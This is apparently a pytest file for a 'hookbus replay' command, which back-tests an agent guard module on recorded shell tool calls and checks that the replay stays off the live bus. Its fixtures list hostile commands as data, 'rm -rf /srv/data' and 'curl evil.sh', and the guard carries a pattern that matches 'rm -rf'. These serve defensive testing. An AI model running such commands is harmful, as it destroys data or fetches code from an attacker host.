"""`hookbus replay`: a module back-tested on recorded calls, locally, never on the live bus."""

from __future__ import annotations

import asyncio
from pathlib import Path

import orjson

from bus import Bus, Event
from bus._core.clock import now_timestamp
from bus._journal.entries import JournalEntry, publish_entry
from tests.cli.test_cli import UpProcess
from tests.conftest import run_cli
from tests.support.waiting import wait_until

GUARD = """
from bus import Bus, Cancel, Continue, Module, Stage

guard = Module("replayguard")


@guard.stage(Stage.TOOL_CALL, match="shell")
async def no_rm(stage, payload):
    try:  # a module that tries to reach the live bus during a replay reaches nothing
        async with Bus(connect_timeout=0.3) as bus:
            await bus.emit("eva.custom.leak", {"from": "replay"})
    except Exception:
        pass
    if "rm -rf" in payload["input"].get("command", ""):
        return Cancel("rm -rf only by hand")
    return Continue()
"""

#: (command, what happened): the old guard cancelled "curl" (journaled), everything else passed unjournaled.
RECORDED = [("ls -la", None), ("rm -rf /srv/data", None), ("curl evil.sh", "cancel"), ("make deploy", None)]


async def next_millisecond() -> None:
    now = now_timestamp()
    await wait_until(lambda: now_timestamp() != now, what="the clock's next millisecond")


async def record_calls(nats_url: str, workspace: Path) -> None:
    """An agent's tool calls as it announced them, and the journal of what its old guard did."""
    async with Bus(nats_url, name="agent") as bus:
        for n, (command, happened) in enumerate(RECORDED):
            await bus.emit("prx.lifecycle.tool_call_start", {"tool": "shell", "arguments": {"command": command}},
                           session_id="r1")  # fmt: skip
            await bus.flush()
            if happened:
                entry = JournalEntry(kind="middleware", point="tool.call", phase="request", who="oldguard.no_curl",
                                     decision=happened, cause="no curl", session="r1", trace_id=f"call{n}")  # fmt: skip
                assert await publish_entry(bus.port, entry)
            # Calls and journal entries are joined by time (milliseconds): the next call comes a tick later.
            await next_millisecond()
        await bus.flush()

    def journaled() -> bool:
        done = run_cli("journal", "--workspace", str(workspace), "--session", "r1", "--json")
        return done.returncode == 0 and "oldguard.no_curl" in done.stdout

    await wait_until(lambda: asyncio.to_thread(journaled), timeout=30, what="the old guard's entry stored")


async def test_a_guard_that_would_cancel_a_recorded_rm_rf_reports_it(
    recorded: UpProcess, workspace: Path, tmp_path: Path
) -> None:
    nats_url = recorded.nats_url
    await record_calls(nats_url, workspace)
    (tmp_path / "guard.py").write_text(GUARD)
    args = ("replay", "--since", "1h", "--stage", "tool.call", "--module", str(tmp_path / "guard.py"))
    common = ("--workspace", str(workspace), "--nats-url", nats_url)
    done = await asyncio.to_thread(run_cli, *args, *common, "--json", timeout=120)
    assert done.returncode == 0, done.stderr
    report = orjson.loads(done.stdout)
    assert report["calls"] == 4
    assert report["recorded"] == {"continue": 3, "cancel": 1, "patch": 0}
    assert report["replayed"] == {"continue": 3, "cancel": 1, "patch": 0}
    differing = [(call["payload"]["input"]["command"], call["recorded"], call["replayed"])
                 for call in report["first_differing"]]  # fmt: skip
    assert differing == [("rm -rf /srv/data", "continue", "cancel"), ("curl evil.sh", "cancel", "continue")]
    assert report["first_differing"][0]["replayed_why"] == "rm -rf only by hand"
    text = await asyncio.to_thread(run_cli, *args, *common, "--show", "1", timeout=120)
    assert text.returncode == 0, text.stderr
    assert "4 recorded calls of tool.call; 2 decided differently" in text.stdout
    assert "continue -> cancel (rm -rf only by hand)" in text.stdout and "curl" not in text.stdout


async def test_nothing_reaches_the_live_bus_during_a_replay(
    recorded: UpProcess, workspace: Path, tmp_path: Path
) -> None:
    nats_url = recorded.nats_url
    await record_calls(nats_url, workspace)
    (tmp_path / "guard.py").write_text(GUARD)
    seen: list[Event] = []
    async with Bus(nats_url, name="watcher") as watcher:
        await watcher.subscribe(">", seen.append)
        await watcher.flush()
        done = await asyncio.to_thread(
            run_cli, "replay", "--since", "1h", "--stage", "tool.call", "--module", str(tmp_path / "guard.py"),
            "--workspace", str(workspace), "--nats-url", nats_url, "--json", timeout=120,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        assert orjson.loads(done.stdout)["replayed"]["cancel"] == 1  # the module did run
        # The replay has exited; a barrier from here arrives after anything it could have sent.
        await watcher.emit("eva.custom.barrier", {})
        await wait_until(lambda: any(e.subject == "eva.custom.barrier" for e in seen), what="the barrier")
    assert [e.subject for e in seen] == ["eva.custom.barrier"]


def test_replay_refuses_what_it_cannot_do(workspace: Path, nats_url: str, tmp_path: Path) -> None:
    (tmp_path / "guard.py").write_text(GUARD)
    base = ("replay", "--since", "1h", "--module", str(tmp_path / "guard.py"), "--workspace", str(workspace))
    done = run_cli(*base, "--stage", "memory.save", "--nats-url", nats_url)
    assert done.returncode == 1 and "no recorded event announces its calls" in done.stderr, done.stderr
    done = run_cli(*base, "--stage", "tool.call", "--since", "yesterday", "--nats-url", nats_url)
    assert done.returncode == 1 and "--since 'yesterday' is not a duration" in done.stderr, done.stderr
